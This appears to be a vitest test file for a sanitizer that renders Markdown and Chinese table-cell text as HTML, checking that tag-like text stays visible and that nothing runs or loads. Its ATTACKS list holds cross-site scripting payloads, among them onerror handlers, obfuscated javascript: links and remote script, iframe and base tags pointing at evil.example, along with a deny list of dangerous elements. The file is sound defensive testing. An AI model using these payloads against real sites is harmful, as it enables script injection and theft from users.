import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, test } from 'vitest';
import { richFromCell, richFromMarkdown } from './rich-text.ts';

const images = (src: string) => (src === 'media/a.svg' ? '/files/a.svg' : null);
const md = (source: string) => richFromMarkdown(source, images).html;
const cell = (source: string) => richFromCell(source, images).html;

/** What a browser shows of a fragment: its text, with a line end for each break. */
function shownOf(html: string): string {
  let shown = '';
  const parser = new Parser({
    ontext: (text) => {
      shown += text;
    },
    onopentag: (name) => {
      if (name === 'br') shown += '\n';
    },
  });
  parser.end(html);
  return shown;
}

describe('tags that a cell is about are text', () => {
  test.each([
    ['<b>'],
    ['<br>'],
    ['</p>'],
    ['<b></b>'],
    ['<script>'],
    ['<script>alert(1)</script> 会怎样'],
    ['网页里 <input type="text"> 是什么'],
    ['<select><option>甲</option></select>'],
    ['换行用<br>，水平线用<hr>'],
    ['在 HTML 中，<br> 标签用于'],
    ['“<br>”的作用'],
    ['下列 <br> 的作用'],
    ['<b>和<strong>有什么不同'],
    ['<b>加粗</b>用的是“<b>”'],
    ['乙<style>p{}</style>'],
    ['<!-- 注释 --> 是什么'],
    ['<b onclick=x>点</b>'],
    ['<a href="javascript:alert(1)">链</a>'],
    ['<foo>甲</foo>'],
    ['<p>甲<p>乙'],
    ['vector<int> 与 map<string>'],
  ])('%s', (source) => {
    expect(shownOf(cell(source))).toBe(source);
    expect(elementsOf(cell(source))).toEqual([]);
  });

  test.each([
    ['甲<br>乙<br/>丙</br>丁', '甲<br />乙<br />丙<br />丁'],
    ['<p>甲</p><p><br></p><p><span style="x">乙</span></p>', '<p>甲</p><p><br /></p><p><span>乙</span></p>'],
    ['<center>甲</center>', '甲'],
    ['<table><tr><td nowrap>甲</td></tr></table>', '<table><tr><td>甲</td></tr></table>'],
    ['<i>vector</i><int>', '<em>vector</em>&lt;int&gt;'],
    ['若a<b>c，则<u>甲</u>', '若a&lt;b&gt;c，则<u>甲</u>'],
    ['甲<b>（<i>乙</b>）</i>', '甲&lt;b&gt;（&lt;i&gt;乙&lt;/b&gt;）&lt;/i&gt;'],
  ])('formatting stays formatting: %s', (source, html) => {
    expect(cell(source)).toBe(html);
  });

  test('that tags are text because of others is said', () => {
    expect(richFromCell('<u>甲</u>用 <input> 填', images).warnings).toEqual([
      '有的标签没有成对或不是排版用的，整格的标签都按文字显示',
    ]);
    expect(richFromCell('<u>甲</u>', images).warnings).toEqual([]);
  });

  test('in HTML of ours every tag that can be formatting is', () => {
    const typed = (source: string) => richFromCell(source, images, true).html;
    expect(typed('甲<br />和乙，用 &lt;br&gt;')).toBe('甲<br />和乙，用 &lt;br&gt;');
    expect(typed('<p>left\nright</p>')).toBe('left\nright');
    expect(typed('<script>甲</script><b>乙</b>')).toBe('&lt;script&gt;甲&lt;/script&gt;<strong>乙</strong>');
  });

  test('no visible character is lost, whatever pieces are put together', () => {
    const piece = fc.constantFrom(
      ...ATTACKS.filter((attack) => !/[$\uFDD0]|<img|&/.test(attack)),
      '<b>',
      '</b>',
      '<p>',
      '</p>',
      '<br>',
      '<u>',
      '</u>',
      '<table>',
      '<td>',
      '</',
      '<!--',
      '-->',
      '<',
      '>',
      '"',
      '`',
      '甲',
      'a',
      '，',
      '标签',
    );
    // What is left when everything that looks like formatting is taken out has to be there in any case.
    const bare = (text: string) => text.replace(/<\/?(?:b|u|p|br|a|div|table|td|math|mtext|style)\b[^<>]*>|\s/gi, '');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 7 }), (pieces) => {
        const source = pieces.join('');
        const shown = shownOf(cell(source));
        expect(bare(shown)).toBe(bare(source));
        expectHarmless(cell(source));
      }),
      { numRuns: 500 },
    );
  });
});

const ATTACKS = [
  '<script>alert(1)</script>甲',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>甲',
  '<img src="media/a.svg" onerror="alert(1)">',
  '<img src=x onerror=alert(1)>',
  '<svg onload="alert(1)"><script>1</script></svg>',
  '<a href="JaVaScRiPt:alert(1)" onclick="alert(1)">链</a>',
  '<a href="java&#10;script:alert(1)">链</a>',
  '[链](javascript:alert(1)) [链](data:text/html,x)',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input></form>',
  '<div style="position:fixed" class="modal" id="app">甲</div>',
  '<style>*{display:none}</style><base href="//evil.example">',
  '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '![<script>](media/b.svg "x")',
  '<img alt="<script>alert(1)</script>" src="media/b.svg">',
  '$<script>alert(1)</script>$ `$<img src=x onerror=alert(1)>$`',
  '<b title="$" onclick="alert(1)">$</b>',
  '<p $ onclick=alert(1) $>甲</p>',
  '\uFDD00\uFDD1 $x$ \uFDD09\uFDD1',
];

/** What a browser would see: elements and attributes only. */
function elementsOf(html: string) {
  const seen: { name: string; attributes: Record<string, string> }[] = [];
  const parser = new Parser({ onopentag: (name, attributes) => void seen.push({ name, attributes }) });
  parser.end(html);
  return seen;
}

function expectHarmless(html: string) {
  for (const { name, attributes } of elementsOf(html)) {
    expect([
      'script',
      'style',
      'iframe',
      'svg',
      'math',
      'form',
      'input',
      'base',
      'object',
      'embed',
      'meta',
      'link',
    ]).not.toContain(name);
    for (const [key, value] of Object.entries(attributes)) {
      expect(key).toMatch(/^(href|rel|target|src|alt|width|height|colspan|rowspan|align|start|type)$/);
      if (key === 'src') expect(value).toBe('/files/a.svg');
      if (key === 'href') expect(value).toMatch(/^https?:\/\//i);
    }
  }
  expect(html).not.toMatch(/[\uFDD0\uFDD1]/);
}

test.each(ATTACKS)('nothing runs or loads: %s', (source) => {
  expectHarmless(md(source));
  expectHarmless(cell(source));
});

test('nothing runs or loads, whatever pieces are put together', () => {
  const piece = fc.constantFrom(
    ...ATTACKS,
    '$',
    '\\(',
    '\\)',
    '`',
    '"',
    '>',
    '<',
    '\n\n',
    '</b>',
    '<!--',
    '-->',
    '甲',
    '|',
    '&lt;',
    '\uFDD0',
    '\uFDD1',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
      expectHarmless(md(pieces.join('')));
      expectHarmless(cell(pieces.join('')));
    }),
    { numRuns: 300 },
  );
});
